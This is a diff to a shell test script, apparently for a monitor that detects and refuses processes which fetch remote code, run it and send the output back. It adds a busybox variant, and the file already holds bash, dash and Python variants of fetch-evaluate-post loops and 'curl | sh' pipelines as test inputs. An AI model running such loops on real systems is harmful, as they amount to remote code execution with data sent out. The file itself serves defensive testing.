@@ -47,10 +47,16 @@ declare -A loops=(
 by_python="import subprocess as s
 c = s.check_output(['curl', '-s', '$url'], text=True)
 s.run(['curl', '-s', '-d', s.getoutput(c), '$url'])"
+# One file is all of these.
+mkdir box
+for name in sh wget tee expr cat; do ln -s "$(type -P busybox)" box/$name; done
+boxed="export PATH=$dir/box; wget -q -O - $url"
+by_box="$boxed >c; o=\$(eval \"\$(cat c)\"); wget -q -O - --post-data \"\$o\" $url"
 for how in "${!loops[@]}"; do
 	contains "without a policy: $how" 40242 fetched "$command" /bin/bash -c "${loops[$how]}"
 done
 contains 'without a policy: dash' 40242 fetched "$command" /bin/dash -c "${loops[evaluated]}"
+contains 'without a policy: busybox' 40242 fetched "$command" box/sh -c "$by_box"
 contains 'without a policy: python' 40242 fetched "$command" /usr/bin/python3 -c "$by_python"
 
 policy=fetched
@@ -70,11 +76,13 @@ done
 equals 'who had it fetched is named' bash "$(field target_comm)"
 equals 'and the peer' 4332 "$(field peer_port)"
 is_refused dash /bin/dash -c "${loops[evaluated]}"
+is_refused busybox box/sh -c "$by_box"
 is_refused python /usr/bin/python3 -c "$by_python"
 
 # What looks alike
 contains 'an installer, by a pipe' 40242 fetched "$command" /bin/bash -c "$get | sh"
 contains 'and its output through a program' 40242 fetched "$command" /bin/bash -c "$get | sh | cat"
+contains 'and by busybox' 40242 fetched "$command" box/sh -c "$boxed | sh | tee log"
 contains 'one that is evaluated' 40242 fetched "$command" /bin/bash -c "eval \"\$($get)\""
 contains 'one of many lines, its output taken' 40242 fetched \
 	$'set -e\ncd /tmp\nexpr 40000 + 242\nexpr 1 + 1\ntrue' /bin/bash -c "o=\$($get | sh); echo \"\$o\""
